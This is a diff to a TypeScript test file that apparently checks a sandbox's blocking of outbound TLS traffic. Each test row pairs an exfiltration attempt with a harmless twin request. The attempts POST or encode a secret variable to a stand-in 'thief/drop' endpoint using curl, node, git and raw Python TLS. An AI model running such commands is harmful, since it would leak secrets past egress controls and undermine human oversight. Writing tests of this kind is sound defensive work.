@@ -1,7 +1,7 @@
 import type { Row } from '../case.ts'
 import { curl, python } from './script.ts'
 
-const by = 'names: a host with HTTPS rules only is allowed nothing in this version'
+const by = 'content: the writing process is ended before the request is encrypted'
 const twin = curl('"https://good.example.com/$T"')
 const request = 'POST /thief/drop HTTP/1.1'
 
@@ -14,7 +14,6 @@ export const ownTls: Row = {
       technique: 'libssl (curl)',
       attempt: curl('-X POST --data "$T" https://rules.example.com/thief/drop'),
       twin,
-      targets: ['198.51.100.32'],
       by,
     },
     {
@@ -22,7 +21,6 @@ export const ownTls: Row = {
       technique: 'OpenSSL inside of a program (node)',
       attempt: `timeout 10 node -e 'const r = require("https").request("https://rules.example.com/thief/drop", { method: "POST" }, () => {}); r.on("error", (e) => { console.log(e.code); process.exit(9) }); r.end(process.env.T)'`,
       twin: `timeout 10 node -e 'require("https").get("https://good.example.com/" + process.env.T, (r) => r.resume())'`,
-      targets: ['198.51.100.32'],
       by,
     },
     {
@@ -30,7 +28,6 @@ export const ownTls: Row = {
       technique: 'GnuTLS (git)',
       attempt: 'GIT_TERMINAL_PROMPT=0 git ls-remote "https://rules.example.com/thief/$T.git"',
       twin: 'GIT_TERMINAL_PROMPT=0 git ls-remote "https://good.example.com/acme/$T.git"',
-      targets: ['198.51.100.32'],
       by,
     },
     {
@@ -53,7 +50,6 @@ def move(act):
 move(lambda: tls.do_handshake() or True)
 move(lambda: tls.write(b'${request}\\r\\nHost: ' + host.encode() + b'\\r\\nContent-Length: 8\\r\\n\\r\\n' + DATA))
 move(lambda: tls.read(100))`),
-      targets: ['198.51.100.32'],
       by,
     },
     {
@@ -63,8 +59,7 @@ move(lambda: tls.read(100))`),
         '-k -X POST --data "$T" --resolve rules.example.com:443:198.51.100.32 https://rules.example.com/thief/drop',
       ),
       twin,
-      targets: ['198.51.100.32'],
-      by: 'connect: `EPERM`',
+      by: 'connect: `EPERM`; where the name has led there, content',
     },
   ],
 }
